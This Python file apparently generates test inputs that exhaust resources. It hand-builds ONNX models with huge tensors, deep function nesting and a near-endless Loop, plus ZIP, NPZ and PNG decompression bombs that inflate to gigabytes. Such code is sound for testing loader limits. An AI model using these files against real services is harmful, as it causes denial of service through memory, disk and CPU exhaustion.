# Small files that ask for much: of work, memory or disk. Written by hand, without the libraries of their formats.
import struct
import zlib


def number(value):
    value &= (1 << 64) - 1
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def field(tag, value):
    if isinstance(value, int):
        return number(tag << 3) + number(value)
    if isinstance(value, float):
        return number(tag << 3 | 5) + struct.pack("<f", value)
    data = value.encode() if isinstance(value, str) else value
    return number(tag << 3 | 2) + number(len(data)) + data


def dims_of(dims):
    return b"".join(field(1, dim) for dim in dims)


# ---- ONNX ----

FLOAT, INT64, BOOL = 1, 7, 9


def value(name, kind, dims):
    shape = b"".join(field(1, field(1, dim)) for dim in dims)
    return field(1, name) + field(2, field(1, field(1, kind) + field(2, shape)))


def tensor(name, kind, dims, data=None):
    size = {FLOAT: 4, INT64: 8, BOOL: 1}[kind]
    for dim in dims:
        size *= dim
    return dims_of(dims) + field(2, kind) + field(8, name) + field(9, bytes(size) if data is None else data)


def ints(name, numbers):
    return tensor(name, INT64, [len(numbers)], struct.pack(f"<{len(numbers)}q", *numbers))


def attribute(name, value):
    if isinstance(value, list):
        return field(1, name) + b"".join(field(8, item) for item in value) + field(20, 7)
    if isinstance(value, int):
        return field(1, name) + field(3, value) + field(20, 2)
    if isinstance(value, bytes):  # a graph
        return field(1, name) + field(6, value) + field(20, 5)
    return field(1, name) + field(4, value) + field(20, 3)


def node(op, inputs, outputs, domain="", name="", **attributes):
    out = b"".join(field(1, item) for item in inputs) + b"".join(field(2, item) for item in outputs)
    out += field(3, name or outputs[0]) + field(4, op) + (field(7, domain) if domain else b"")
    return out + b"".join(field(5, attribute(key, item)) for key, item in attributes.items())


def graph(nodes, inputs=(), outputs=(), constants=()):
    out = b"".join(field(1, item) for item in nodes) + field(2, "g") + b"".join(field(5, item) for item in constants)
    return out + b"".join(field(11, item) for item in inputs) + b"".join(field(12, item) for item in outputs)


def model(main, functions=(), domains=("",)):
    out = field(1, 10) + field(7, main)
    out += b"".join(field(8, (field(1, domain) if domain else b"") + field(2, 20 if not domain else 1)) for domain in domains)
    return out + b"".join(field(25, item) for item in functions)


# A node of constants, and what is added to its first number: there is an input to run.
def of_constants(op, constants, out_dims, **attributes):
    names = [f"c{i}" for i in range(len(constants))]
    tensors = [item(name) if callable(item) else tensor(name, FLOAT, item) for name, item in zip(names, constants)]
    kind = INT64 if op == "NonMaxSuppression" else FLOAT
    nodes = [node(op, names, ["big"], **attributes), node("Add", ["x", "big"], ["y"])]
    return model(graph(nodes, [value("x", kind, [1])], [value("y", kind, out_dims)], tensors))


def lstm(hidden_size):
    constants = [tensor("w", FLOAT, [1, 16, 4]), tensor("r", FLOAT, [1, 16, 4])]
    nodes = [node("LSTM", ["x", "w", "r"], ["y"], hidden_size=hidden_size)]
    return model(graph(nodes, [value("x", FLOAT, [2, 1, 4])], [value("y", FLOAT, [2, 1, 1, 4])], constants))


def functions(depth, calls):
    made = []
    for level in range(depth):
        op, domain = (f"f{level + 1}", "own") if level + 1 < depth else ("Relu", "")
        steps = [f"v{i}" for i in range(calls - 1)] + ["b"]
        nodes = [node(op, ["a" if i == 0 else steps[i - 1]], [step], domain) for i, step in enumerate(steps)]
        out = field(1, f"f{level}") + field(4, "a") + field(5, "b") + b"".join(field(7, item) for item in nodes)
        made.append(out + field(9, field(2, 20)) + field(9, field(1, "own") + field(2, 1)) + field(10, "own"))
    main = graph([node("f0", ["x"], ["y"], "own")], [value("x", FLOAT, [1])], [value("y", FLOAT, [1])])
    return model(main, made, ("", "own"))


def endless_loop():
    body = graph(
        [node("Identity", ["c"], ["more"]), node("Neg", ["v"], ["w"])],
        [value("i", INT64, []), value("c", BOOL, []), value("v", FLOAT, [1])],
        [value("more", BOOL, []), value("w", FLOAT, [1])],
    )
    constants = [tensor("n", INT64, [], struct.pack("<q", (1 << 63) - 1)), tensor("true", BOOL, [], b"\1")]
    nodes = [node("Loop", ["n", "true", "x"], ["y"], body=body)]
    return model(graph(nodes, [value("x", FLOAT, [1])], [value("y", FLOAT, [1])], constants))


# ---- archives ----

BLOCK = 1 << 24


# `blocks` times 16 MB of one byte as a raw deflate stream, without making them.
def deflated(blocks, byte=b"\0"):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(byte * BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * blocks + packer.flush(zlib.Z_FINISH)


def archive(members):  # name: (bytes in the file, method, size)
    out, directory = b"", b""
    for name, (data, method, size) in members.items():
        offset, word = len(out), name.encode()
        wide = struct.pack("<HHQ", 1, 8, size) if size > 0xFFFFFFFE else b""
        claimed = min(size, 0xFFFFFFFF)
        out += struct.pack("<IHHHIIIIHH", 0x04034B50, 45, 0, method, 0, 0, len(data), claimed, len(word), 0) + word + data
        directory += struct.pack("<IHHHHIIIIHHHHHII", 0x02014B50, 45, 45, 0, method, 0, 0, len(data), claimed, len(word), len(wide), 0, 0, 0, 0, offset)
        directory += word + wide
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), len(out), 0)
    return out + directory + end


def json_bomb():
    return archive({"m/models/model.json": (deflated(64, b" "), 8, 64 * BLOCK), "m/byteorder": (b"little", 0, 6)})


# Rows of 1,024 float32, four gigabytes together.
def npz_bomb(columns=1024):
    rows = 256 * BLOCK // (4 * columns)
    text = f"{{'descr': '<f4', 'fortran_order': False, 'shape': ({rows}, {columns}), }}"
    header = b"\x93NUMPY\1\0" + struct.pack("<H", 118) + text.ljust(117).encode() + b"\n"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(header) + packer.flush(zlib.Z_FULL_FLUSH)
    return archive({"x.npy": (head + deflated(256), 8, len(header) + 256 * BLOCK)})


# 8 x 8 pixels, and four gigabytes behind them.
def png_bomb():
    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"\x78\xda" + deflated(256)) + chunk(b"IEND", b"")
